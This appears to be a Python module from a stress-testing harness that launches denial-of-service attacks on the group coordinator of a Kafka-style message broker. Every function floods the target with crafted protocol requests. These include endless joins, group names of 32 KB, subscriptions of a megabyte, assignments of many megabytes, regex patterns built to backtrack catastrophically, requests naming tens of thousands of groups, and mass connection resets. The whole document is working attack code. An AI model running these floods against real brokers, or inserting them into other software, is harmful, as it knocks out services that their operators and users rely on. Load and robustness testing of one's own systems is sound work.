"""Attacks on the coordinators of groups."""

import contextlib
import itertools
import struct
import time

from . import NO_TAGS, OPEN, array, attack, flood, request, text

GROUPS = "groups"
HALF_HOUR = 1_800_000


def join(group, member="", metadata=b"\0\0\0\0", protocols=1, session=HALF_HOUR, version=3, **more):
    """A JoinGroup request; in version 3 a new member needs no id."""
    names = [{"Name": f"range{n or ''}", "Metadata": metadata} for n in range(protocols)]
    body = {
        "GroupId": group, "SessionTimeoutMs": session, "RebalanceTimeoutMs": HALF_HOUR, "MemberId": member, "ProtocolType": "consumer",
        "Protocols": names, **more,
    }
    return request("JoinGroup", version, body)


def commit(group, partitions, metadata, topic=OPEN):
    """An OffsetCommit request from outside of a group."""
    parts = b"".join(struct.pack(">iqi", p, 7, -1) + text(metadata) + NO_TAGS for p in partitions)
    topics = array(1, text(topic) + array(len(partitions), parts) + NO_TAGS)
    body = text(group) + struct.pack(">i", -1) + text("") + b"\0" + topics + NO_TAGS
    return request("OffsetCommit", 8, body)


def modern(group, member, epoch=0, names=None, regex=None):
    """A ConsumerGroupHeartbeat request."""
    body = {
        "GroupId": group, "MemberId": member, "MemberEpoch": epoch, "RebalanceTimeoutMs": HALF_HOUR, "TopicPartitions": [],
        "SubscribedTopicNames": names if regex is None else None, "SubscribedTopicRegex": regex,
    }
    return request("ConsumerGroupHeartbeat", 1, body)


@attack(GROUPS)
def joins_without_end(t):
    """New members join one group again and again and never sync."""
    frame = join("crowd", metadata=bytes(2000))
    return flood(t, t.many(200, 60), frame * 8)


@attack(GROUPS)
def joins_of_new_groups(t):
    """Each join makes a group, of a name of 32 KB, with a member whose names are as long."""
    turn = itertools.count()

    def next_join(_):
        name = f"{next(turn):09}" + "g" * 32000
        return join(name, session=HALF_HOUR, version=5, GroupInstanceId=f"{next(turn)}" + "i" * 32000)

    return flood(t, t.many(50, 20), next_join)


@attack(GROUPS)
def huge_subscriptions(t):
    """Members whose subscriptions are a megabyte, in ten protocols."""
    turn = itertools.count()
    frame = bytes(100_000)
    return flood(t, 24, lambda n: join(f"huge-{next(turn) % 40}", metadata=frame, protocols=10))


@attack(GROUPS)
def huge_assignments(t):
    """Leaders that hand out assignments of many megabytes."""
    crowd = [t.connection() for _ in range(8)]
    count = 0
    for turn in itertools.count():
        for n, c in enumerate(crowd):
            if t.over():
                return f"{count} assignments"
            with contextlib.suppress(OSError, AssertionError):
                group = f"given-{n}-{turn % 20}"
                c.socket.sendall(join(group))
                c.sent.append((11, 3, 1))
                c.socket.settimeout(max(0.01, t.left()))
                joined = c.receive()
                body = {
                    "GroupId": group, "GenerationId": joined.GenerationId, "MemberId": joined.MemberId,
                    "Assignments": [{"MemberId": joined.MemberId, "Assignment": bytes(8 << 20)}],
                }
                c.socket.sendall(request("SyncGroup", 3, body))
                c.sent.append((14, 3, 1))
                c.receive()
                count += 1


PATTERNS = [
    "(a+)+$", "(a|a)*b", "(.*)(.*)(.*)(.*)(.*)(.*)x", "((a{0,100}){0,100}){0,100}", "(x{1000}){1000}", "[\\p{L}\\p{N}]{1,1000}z", "(" * 500 + ")" * 500,
    "a" * 30000, "|".join(f"t{n}" for n in range(4000)), "(?i)" + "[a-z]" * 2000, "\\w{500}\\w{500}\\w{500}", ".*" * 5000,
]


@attack(GROUPS)
def patterns(t):
    """Members of the new protocol subscribe to patterns that are made to be slow or large."""
    turn = itertools.count()

    def next_pattern(_):
        n = next(turn)
        return modern(f"pattern-{n % 500}", f"m-{n}", regex=PATTERNS[n % len(PATTERNS)])

    return flood(t, t.many(32, 12), next_pattern)


@attack(GROUPS)
def modern_members_without_end(t):
    """Members of the new protocol join one group, which is assigned anew each time."""
    turn = itertools.count()
    return flood(t, t.many(32, 12), lambda _: modern("modern", f"m-{next(turn)}", names=[OPEN, "cold"]))


@attack(GROUPS)
def modern_subscriptions_to_much(t):
    """Members of the new protocol subscribe to ten thousand topics of long names."""
    turn = itertools.count()
    names = [f"{n:05}" + "x" * 240 for n in range(10_000)]
    frame = modern("modern-much", "MEMBER", names=names)

    def next_member(_):
        return frame.replace(b"MEMBER", b"%06d" % next(turn))

    return flood(t, 8, next_member)


@attack(GROUPS)
def modern_groups_without_end(t):
    """Each heartbeat makes a group of the new protocol, of a long name."""
    turn = itertools.count()
    return flood(t, t.many(32, 12), lambda _: modern(f"{next(turn):09}" + "g" * 200, "m" * 100, names=[OPEN]))


@attack(GROUPS)
def commits_with_much_metadata(t):
    """Commits of 48 partitions with 4,096 characters each, of new groups."""
    turn = itertools.count()
    return flood(t, 16, lambda _: commit(f"told-{next(turn)}", range(48), "ä" * 4096))


@attack(GROUPS)
def commits_of_long_names(t):
    """Each commit makes a group, of a name of 32 KB."""
    turn = itertools.count()
    return flood(t, 16, lambda _: commit(f"{next(turn):09}" + "g" * 32000, [0], ""))


@attack(GROUPS)
def ten_thousand_groups(t):
    """Small commits make ten thousand groups and more; then all of them are listed and described."""
    turn = itertools.count()
    ask = [
        request("ListGroups", 4, {"StatesFilter": []}),
        request("DescribeGroups", 5, array(10_000, b"".join(text(f"g-{n}") for n in range(10_000))) + b"\0" + NO_TAGS),
        request("OffsetFetch", 8, {"Groups": [{"GroupId": f"g-{n}", "Topics": None} for n in range(2000)], "RequireStable": False}),
    ]
    small = [b"".join(commit(f"g-{n}", [n % 48], "") for n in range(at, at + 100)) for at in range(0, 10_000, 100)]
    return flood(t, t.many(16, 9), lambda n: ask[n // 3 % 3] if n % 3 == 0 else small[next(turn) % 100])


@attack(GROUPS)
def heartbeats_of_strangers(t):
    """Heartbeats, syncs, leaves and commits of members that nobody knows."""
    who = {"GroupId": "strangers", "GenerationId": 5, "MemberId": "m" * 100}
    frames = [
        request("Heartbeat", 3, who), request("SyncGroup", 3, who), request("LeaveGroup", 3, {"GroupId": "strangers", "Members": [{"MemberId": "x"}] * 500}),
        modern("strangers", "nobody", epoch=9),
    ]
    return flood(t, t.many(40, 16), lambda n: frames[n % 4] * 50)


@attack(GROUPS)
def leaves_at_once(t):
    """Hundreds of members join a group; all of their connections are reset, others leave, and so on."""
    rounds = 0
    while not t.over():
        crowd = [t.socket() for _ in range(t.many(300, 100))]
        for n, s in enumerate(crowd):
            with contextlib.suppress(OSError):
                s.sendall(join("leavers", member="", session=6000))
        time.sleep(min(0.2, t.left()))
        for s in crowd:
            s.close()
        rounds += 1
    return f"{rounds} rounds"


@attack(GROUPS)
def asks_about_all_groups(t):
    """DescribeGroups, DeleteGroups, FindCoordinator and OffsetFetch with 50,000 names each."""
    names = array(50_000, b"".join(text(f"n{n}") for n in range(50_000)))
    frames = [
        request("DescribeGroups", 5, names + b"\0" + NO_TAGS), request("DeleteGroups", 2, names + NO_TAGS),
        request("FindCoordinator", 4, b"\0" + names + NO_TAGS), request("ConsumerGroupDescribe", 0, names + b"\0" + NO_TAGS),
    ]
    groups = array(20_000, b"".join(text(f"n{n}") + b"\0" + NO_TAGS for n in range(20_000)))
    frames.append(request("OffsetFetch", 8, groups + b"\0" + NO_TAGS))
    return flood(t, t.many(10, 5), lambda n: frames[n % 5])
